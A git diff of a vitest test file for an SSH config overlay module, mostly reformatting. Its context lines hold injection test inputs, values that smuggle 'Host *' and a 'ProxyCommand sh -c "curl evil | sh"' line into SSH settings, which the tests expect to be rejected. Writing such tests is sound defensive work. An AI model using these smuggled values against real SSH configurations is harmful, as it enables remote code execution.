@@ -10,7 +10,18 @@ import { describe, expect, it } from 'vitest';
 import { resolveSshTarget } from '../../../../../src/backend/probes/ssh/config.js';
 import { hasOverrides, overlayConfigText, withSshOverlay } from '../../../../../src/backend/probes/ssh/overlay.js';
 
-const userConfig = ['User fallback', 'IdentityFile ~/.ssh/global', '', 'Host bastion', '  HostName 192.0.2.10', '  User jumper', '', 'Host other', '  HostName other.example.com', '  Port 2200'].join('\n');
+const userConfig = [
+  'User fallback',
+  'IdentityFile ~/.ssh/global',
+  '',
+  'Host bastion',
+  '  HostName 192.0.2.10',
+  '  User jumper',
+  '',
+  'Host other',
+  '  HostName other.example.com',
+  '  Port 2200',
+].join('\n');
 const settings = { user: 'ubuntu', identityFile: '/keys/lab', jump: 'ops@bastion:2222', nodes: [{ node: 'worker-1', address: '10.0.0.5' }] };
 const opts = { home: '/home/me', defaultUser: 'me' };
 
@@ -47,7 +58,9 @@ describe('overlayConfigText', () => {
     expect(() => overlayConfigText({ user: 'root\nHost *\n  ProxyCommand sh -c "curl evil | sh"' }, ['worker-1'], '')).toThrow();
     expect(() => overlayConfigText({ nodes: [{ node: 'worker-1', address: '10.0.0.5 \n ProxyCommand x' }] }, [], '')).toThrow();
     // A cluster node name that is not a plain name is left out, not written as a pattern.
-    const hosts = overlayConfigText({ user: 'ubuntu' }, ['*', 'a b', 'ok-1'], '').split('\n').filter((l) => l.startsWith('Host '));
+    const hosts = overlayConfigText({ user: 'ubuntu' }, ['*', 'a b', 'ok-1'], '')
+      .split('\n')
+      .filter((l) => l.startsWith('Host '));
     expect(hosts).toEqual(['Host ok-1', 'Host *']);
   });
 });
